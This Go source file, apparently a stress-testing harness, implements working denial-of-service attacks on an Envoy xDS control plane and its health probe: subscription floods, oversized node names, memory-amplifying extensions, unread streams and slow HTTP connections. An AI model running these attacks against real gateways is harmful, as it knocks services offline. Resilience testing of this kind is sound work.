package attack

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strings"
	"sync"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	"google.golang.org/grpc"
)

type (
	request = discoveryv3.DeltaDiscoveryRequest
	calling = discoveryv3.AggregatedDiscoveryService_DeltaAggregatedResourcesClient
)

// The types whose names are asked for.
const (
	clusters  = "type.googleapis.com/envoy.config.cluster.v3.Cluster"
	endpoints = "type.googleapis.com/envoy.config.endpoint.v3.ClusterLoadAssignment"
)

// call has something said in a call.
func call(ctx context.Context, on Target, say func(calling) error) error {
	ctx, stop := context.WithCancel(ctx)
	defer stop()
	connection, err := grpc.NewClient(on.Address, grpc.WithTransportCredentials(on.credentials()))
	if err != nil {
		return err
	}
	defer func() { _ = connection.Close() }()
	stream, err := discoveryv3.NewAggregatedDiscoveryServiceClient(connection).DeltaAggregatedResources(ctx)
	if err != nil {
		return err
	}
	return say(stream)
}

func (t Target) greeting() *request {
	return &request{Node: &corev3.Node{Id: "attacker", Cluster: t.Gateway}, TypeUrl: clusters}
}

// names are many that are short, and not twice the same.
func names(number int) (all []string) {
	for range number {
		n := rand.Uint32() //nolint:gosec // a name is no secret
		all = append(all, string([]byte{byte(n) & 127, byte(n>>8) & 127, byte(n>>16) & 127, byte(n>>24) & 127}))
	}
	return all
}

// endlessNames asks for names of four bytes.
func endlessNames(ctx context.Context, on Target) error {
	return goOn(
		ctx,
		on,
		func(names []string) *request { return &request{TypeUrl: endpoints, ResourceNamesSubscribe: names} },
	)
}

// takenBack takes names back that it never asked for.
func takenBack(ctx context.Context, on Target) error {
	return goOn(
		ctx,
		on,
		func(names []string) *request { return &request{TypeUrl: endpoints, ResourceNamesUnsubscribe: names} },
	)
}

// goOn sends messages with names that are others each time, until the other side ends it.
func goOn(ctx context.Context, on Target, next func(names []string) *request) error {
	return call(ctx, on, func(s calling) error {
		err := s.Send(on.greeting())
		for err == nil {
			err = s.Send(next(names(10_000)))
		}
		return err
	})
}

// otherGateways says to be of a Gateway that is not there, of a long name.
func otherGateways(ctx context.Context, on Target) error {
	return greet(ctx, on, func(first *request) {
		long := strings.Repeat("x", 200<<10)
		first.Node.Cluster = fmt.Sprintf("a/%d-%s", rand.Uint64(), long) //nolint:gosec // a name is no secret
	})
}

// greet sends a first message that is not as it should be, and waits for an answer.
func greet(ctx context.Context, on Target, change func(first *request)) error {
	return call(ctx, on, func(s calling) error {
		first := on.greeting()
		change(first)
		if err := s.Send(first); err != nil {
			return err
		}
		_, err := s.Recv()
		return err
	})
}

// comeAndGo is an Envoy that goes with the first answer.
func comeAndGo(ctx context.Context, on Target) error { return greet(ctx, on, func(*request) {}) }

// unread asks for everything, and reads none of it.
func unread(ctx context.Context, on Target) error {
	return call(ctx, on, func(s calling) error {
		if err := s.Send(on.greeting()); err != nil {
			return err
		}
		select {
		case <-s.Context().Done():
		case <-ctx.Done():
		}
		return s.Context().Err()
	})
}

var manyExtensions = sync.OnceValue(func() []*corev3.Extension {
	all := make([]*corev3.Extension, 400_000)
	for i := range all {
		all[i] = &corev3.Extension{}
	}
	return all
})

// manyParts says to be a node of many empty parts, each of which takes a hundred times the bytes in memory.
func manyParts(ctx context.Context, on Target) error {
	return greet(ctx, on, func(first *request) { first.Node.Extensions = manyExtensions() })
}

// webConnections has connections to the probes that end no request, or come back for another one.
func webConnections(ctx context.Context, on Target) error {
	conn, err := dial(ctx, on.Web, nil)
	if err != nil {
		return err
	}
	text := "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
	if rand.N(2) == 0 { //nolint:gosec // a choice is no secret
		text = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX: " + strings.Repeat("x", 1<<20)
	}
	_ = conn.SetWriteDeadline(time.Now().Add(time.Second))
	_, _ = conn.Write([]byte(text))
	return until(conn)
}
